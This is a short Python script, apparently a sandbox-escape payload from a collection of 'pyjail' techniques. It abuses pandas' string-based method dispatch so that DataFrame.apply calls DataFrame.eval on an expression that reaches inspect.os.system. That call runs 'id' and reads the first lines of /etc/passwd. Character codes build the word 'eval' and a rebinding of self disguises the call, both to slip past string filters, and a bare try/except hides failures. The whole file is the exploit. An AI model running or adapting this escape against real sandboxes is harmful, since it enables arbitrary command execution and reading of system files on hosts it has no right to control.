# source: pyjail getattr-by-string families; pandas apply_str (pandas/core/apply.py) -> DataFrame.eval with @-locals from pandas.core.apply frame
# family: pandas string dispatch via self.method where self is rebound inside the method to another object whose .fn is a string
# goal: DataFrame.eval -> inspect.os.system -> id, /etc/passwd
import pandas as pd
df = pd.DataFrame({"a": [1, 2]})
e = chr(64) + "inspect.os.system(\"id; head -2 /etc/passwd\")"

class Holder:
    pass


h = Holder()
h.fn = "ev" + chr(97) + "l"


class A:
    def fn(self, x):
        return x.sum()

    def run(self, e):
        self = h
        return df.apply(self.fn, args=(e,))


try:
    A().run(e)
except Exception:
    pass
